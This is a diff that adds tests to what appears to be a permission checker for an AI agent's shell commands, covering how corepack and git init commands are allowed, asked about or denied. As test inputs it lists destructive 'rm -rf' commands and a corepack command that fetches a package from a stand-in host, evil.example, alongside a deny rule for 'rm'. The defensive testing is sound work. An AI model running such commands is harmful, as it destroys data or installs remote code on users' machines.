@@ -204,3 +204,79 @@ describe('N1. npm --global=false is a local install', () => {
     }
   });
 });
+
+/**
+ * C1: corepack's own commands were plain under `Bash(corepack:*)`: `corepack enable` writes the
+ * yarn/pnpm shims beside node on PATH, `install -g`/`prepare --activate`/`hydrate --activate` make a
+ * release the default every shim runs, `use`/`up` write package.json and run the manager's install.
+ */
+describe('C1. corepack enable, disable, install -g, prepare --activate, use, pack', () => {
+  const hasCorepack = runs('corepack', ['--version']);
+  const COREPACK: Rules = { allow: ['Bash(corepack:*)'], deny: ['Edit(/usr/**)', 'Bash(rm *)'] };
+
+  test.skipIf(!hasCorepack)('premise: corepack enable --install-directory D writes the shims in D, disable removes them', () => {
+    const { dir } = premisePlace(T, 'c1');
+    const bin = join(dir, 'bin');
+    mkdirSync(bin, { recursive: true });
+    const env = { ...process.env, HOME: join(dir, 'home'), COREPACK_ENABLE_NETWORK: '0', COREPACK_ENABLE_DOWNLOAD_PROMPT: '0' };
+    spawnSync('corepack', ['enable', '--install-directory', bin], { env, input: '', timeout: 60_000 });
+    expect(['yarn', 'yarnpkg', 'pnpm', 'pnpx'].map((name) => existsSync(join(bin, name)))).toEqual([true, true, true, true]);
+    spawnSync('corepack', ['disable', '--install-directory', bin, 'pnpm'], { env, input: '', timeout: 60_000 });
+    expect(['yarn', 'pnpm'].map((name) => existsSync(join(bin, name)))).toEqual([true, false]);
+  });
+
+  test.each(MODES)('%s: what writes corepack\'s shims or defaults, or the project\'s manager, is not allowed by Bash(corepack:*)', (mode) => {
+    for (const command of ['corepack enable', 'corepack enable pnpm', 'corepack disable', 'corepack disable yarn', 'corepack install -g pnpm@9', 'corepack install --global yarn@4', 'corepack prepare --activate yarn@4', 'corepack hydrate --activate x.tgz', 'corepack use pnpm@9', 'corepack use yarn', 'corepack up']) {
+      const decision = shell(command, mode, COREPACK);
+      expect(decision.verdict, `${command}: ${decision.reason}`).not.toBe('allow');
+    }
+  });
+
+  test.each(MODES)('%s: a directory or file named meets Edit deny rules', (mode) => {
+    for (const command of ['corepack enable --install-directory /usr/local/bin', 'corepack disable --install-directory=/usr/local/bin yarn', 'corepack pack -o /usr/x.tgz', 'corepack prepare yarn@4 --output=/usr/x.tgz']) {
+      const decision = shell(command, mode, COREPACK);
+      expect(decision.verdict, `${command}: ${decision.reason}`).toBe('deny');
+    }
+  });
+
+  test.each(MODES)('%s: corepack MANAGER … is that manager\'s command', (mode) => {
+    for (const command of ['corepack pnpm exec rm -rf v', 'corepack yarn@4.1.0 exec rm -rf v', 'corepack npm exec -- rm -rf v']) {
+      expect(shell(command, mode, COREPACK).verdict, command).toBe('deny');
+    }
+    for (const command of ['corepack pnpm add -g x', 'corepack npm install -g x', 'corepack pnpm@https://evil.example/p.tgz install']) {
+      expect(shell(command, mode, COREPACK).verdict, command).not.toBe('allow');
+    }
+  });
+
+  test.each(['default', 'acceptEdits', 'bypassPermissions'] as DefaultMode[])('%s: corepack install (the project\'s), --cache-only, cache clean, the managers stay allowed', (mode) => {
+    for (const command of ['corepack install', 'corepack install -g --cache-only pnpm@9', 'corepack cache clean', 'corepack --version', 'corepack pnpm install', 'corepack yarn --version']) {
+      const decision = shell(command, mode, COREPACK);
+      expect(decision.verdict, `${command}: ${decision.reason}`).toBe('allow');
+    }
+  });
+});
+
+/**
+ * I1: `git init sub` (round 27 R27-5) is a write of sub in the workspace, decided as docs/rules.md
+ * says writes are: an Edit allow rule in default mode, allowed in acceptEdits and bypassPermissions,
+ * refused in plan and dontAsk. `git init` alone makes ./.git as `git init .` does, and was allowed
+ * in every mode where `git init .` was a write: now read as `git init .`.
+ */
+describe('I1. git init [DIR]: a write of DIR (the working directory without one)', () => {
+  const expected: Record<DefaultMode, string> = { default: 'ask', acceptEdits: 'allow', plan: 'deny', dontAsk: 'deny', bypassPermissions: 'allow' };
+  test.each(MODES)('%s: as a write in the workspace', (mode) => {
+    const commands = ['git init sub', 'git init .', 'git init', 'git init -q', 'git init --bare', 'git init -b main'];
+    expect(verdicts(commands, mode, GIT)).toEqual(commands.map((command) => `${command} => ${expected[mode]}`));
+  });
+  test.each(['default', 'dontAsk'] as DefaultMode[])('%s: an Edit allow rule on the directory allows it', (mode) => {
+    for (const [command, edit] of [['git init sub', 'Edit(sub/**)'], ['git init', 'Edit(./**)'], ['git init sub', 'Edit(./**)']]) {
+      const decision = shell(command!, mode, { allow: ['Bash(git:*)', edit!] });
+      expect(decision.verdict, `${command} ${edit}: ${decision.reason}`).toBe('allow');
+    }
+  });
+  test.each(MODES)('%s: deny rules on it meet it', (mode) => {
+    for (const command of ['git init', 'git init sub', 'git init --bare']) {
+      expect(shell(command, mode, { allow: ['Bash(git:*)'], deny: [`Edit(${W}/**)`] }).verdict, command).toBe('deny');
+    }
+  });
+});
